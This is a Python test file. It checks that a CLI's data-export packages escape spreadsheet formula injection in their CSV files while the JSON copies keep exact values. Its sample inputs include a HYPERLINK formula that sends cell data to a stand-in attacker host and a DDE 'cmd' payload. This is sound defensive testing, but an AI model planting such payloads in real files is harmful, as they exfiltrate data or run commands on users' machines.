"""Access packages opened in a spreadsheet: a value someone typed into a system (a note,
a name) that a spreadsheet would run as a formula is shown as text in the package's CSV
files (OWASP "CSV Injection": = + - @ tab CR), while the JSON files keep every value."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from clihelpers import describe, memory_system, run_cli, seed, write_config

FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "phone_note": "+1-555-0100",
    "calc": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=cmd|' /C calc'!A0",
    "cr": "\r=1+1",
}
PLAIN = {"city": "Berlin", "count": -5, "remark": "a = b, fine", "=header": "x"}


def test_package_csv_cells_never_start_a_formula(tmp_path):
    fields = {"email": "alice@example.com", **FORMULAS, **PLAIN}
    seed(tmp_path / "crm.json", {"c/1": ("contact", fields)})
    config = write_config(tmp_path, {"crm": memory_system(tmp_path / "crm.json")})
    proc = run_cli("export", "--email", "alice@example.com", "--verified", config=config)
    assert proc.returncode == 0, describe(proc)
    (package,) = (tmp_path / "state" / "exports").glob("*.zip")
    with zipfile.ZipFile(package) as zf:
        text = zf.read("crm/contact.csv").decode("utf-8")
        exact = json.loads(zf.read("crm.json"))["records"]["contact"][0]
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    cells = dict(zip(header, row, strict=True))
    for key, value in FORMULAS.items():
        assert cells[key] == "'" + value, (key, cells[key])
        assert exact[key] == value  # the machine-readable copy is exact
    assert "'=header" in header and cells["'=header"] == "x"
    assert (cells["city"], cells["count"], cells["remark"]) == ("Berlin", "-5", "a = b, fine")
    assert cells["email"] == "alice@example.com"
    for cell in [*header, *row]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-5", cell
